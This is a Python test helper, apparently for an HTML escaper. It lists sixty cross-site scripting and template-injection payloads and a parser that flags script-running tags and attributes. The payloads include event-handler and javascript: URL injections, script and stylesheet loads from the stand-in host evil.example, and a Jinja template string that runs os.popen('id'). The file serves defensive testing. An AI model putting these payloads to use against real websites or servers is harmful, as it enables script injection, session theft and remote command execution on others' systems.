"""Sixty ways to make a page run what it should only show. Each calls `pwned()`, which is not there."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = (
    "<script>pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script/x>pwned()</script>",
    "<script\n>pwned()</script\n>",
    "<script type=module>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=\"pwned()\">",
    "<img/src/onerror=pwned()>",
    "<IMG SRC=javascript:pwned()>",
    "<img src='x'onerror='pwned()'>",
    "\"><img src=x onerror=pwned()>",
    "'><img src=x onerror=pwned()>",
    "\" onfocus=pwned() autofocus=\"",
    "' onfocus=pwned() autofocus='",
    "x onmouseover=pwned() y=",
    "`onmouseover=pwned()`",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=pwned()></mtext></math>",
    "<math href=javascript:pwned()>x</math>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<a href=javascript:pwned()>x</a>",
    "<a href='java\tscript:pwned()'>x</a>",
    "<a href=&#106;avascript:pwned()>x</a>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<input onfocus=pwned() autofocus>",
    "<select onfocus=pwned() autofocus></select>",
    "<textarea onfocus=pwned() autofocus>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<body onload=pwned()>",
    "<style>*{display:none}</style>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=//evil.example/>",
    "<div style='background:url(javascript:pwned())'>x</div>",
    "<template><script>pwned()</script></template>",
    "<marquee onstart=pwned()>x</marquee>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${pwned()} #{pwned()} <%= pwned() %>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "\u202e>tpircs/<\u202c<script>pwned()</script>",
    "\ufeff<\u200bscript>pwned()</script><script>pwned()</script>",
)  # fmt: skip


class Made(HTMLParser):
    """What a page is made of, as a browser would read it: elements, and attributes that could run."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.runs: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            goes = "".join((value or "").split()).lower().startswith("javascript:")
            if name.startswith("on") or name in ("style", "srcdoc") or goes:
                self.runs.append(f"{tag} {name}={value}")
